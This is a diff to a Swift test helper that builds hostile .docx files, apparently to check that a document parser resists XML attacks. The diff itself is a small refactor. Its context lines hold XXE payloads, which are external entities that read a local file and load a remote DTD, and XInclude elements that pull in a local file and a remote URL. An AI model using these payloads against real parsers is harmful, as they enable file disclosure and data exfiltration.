@@ -284,6 +284,17 @@ final class HostileFiles: @unchecked Sendable {
 
     static func zip(_ entries: [RawZip.Entry]) -> [UInt8] { RawZip(entries).build() }
 
+    /// A part of the sample dossier.
+    static func original(_ name: String) -> [UInt8] {
+        docxEntries.first { String(decoding: $0.name, as: UTF8.self) == name }?.data ?? []
+    }
+
+    /// The bytes after an `<?xml …?>` declaration.
+    static func withoutDeclaration(_ bytes: [UInt8]) -> [UInt8] {
+        guard bytes.starts(with: Array("<?xml".utf8)), let end = bytes.firstIndex(of: UInt8(ascii: ">")) else { return bytes }
+        return Array(bytes[(end + 1)...])
+    }
+
     /// Replaces the entry named `name` by `entry`.
     static func swap(_ entries: [RawZip.Entry], _ name: String, _ entry: RawZip.Entry) -> [RawZip.Entry] {
         entries.map { String(decoding: $0.name, as: UTF8.self) == name ? entry : $0 }
@@ -412,7 +423,7 @@ final class HostileFiles: @unchecked Sendable {
             let prolog = "<!DOCTYPE w:document [<!ENTITY % remote SYSTEM \"\(url)/param.dtd\"> %remote; <!ENTITY % file SYSTEM \"\(file)\">]>\n"
             return Self.zip(Self.docx(["word/document.xml": Self.document(Self.paragraph("x"), prolog: prolog),
                                        "[Content_Types].xml": Self.utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE Types [<!ENTITY xxe SYSTEM \"\(file)\">]>\n")
-                                            + (Self.docxEntries.first { String(decoding: $0.name, as: UTF8.self) == "[Content_Types].xml" }?.data.drop { $0 != UInt8(ascii: "<") }.drop { $0 != UInt8(ascii: ">") }.dropFirst().map { $0 } ?? [])]))
+                                            + Self.withoutDeclaration(Self.original("[Content_Types].xml"))]))
         case "xinclude.docx":
             let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"\(file)\" parse=\"text\"/>"
                 + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"\(url)/xinclude\" parse=\"text\"/>"
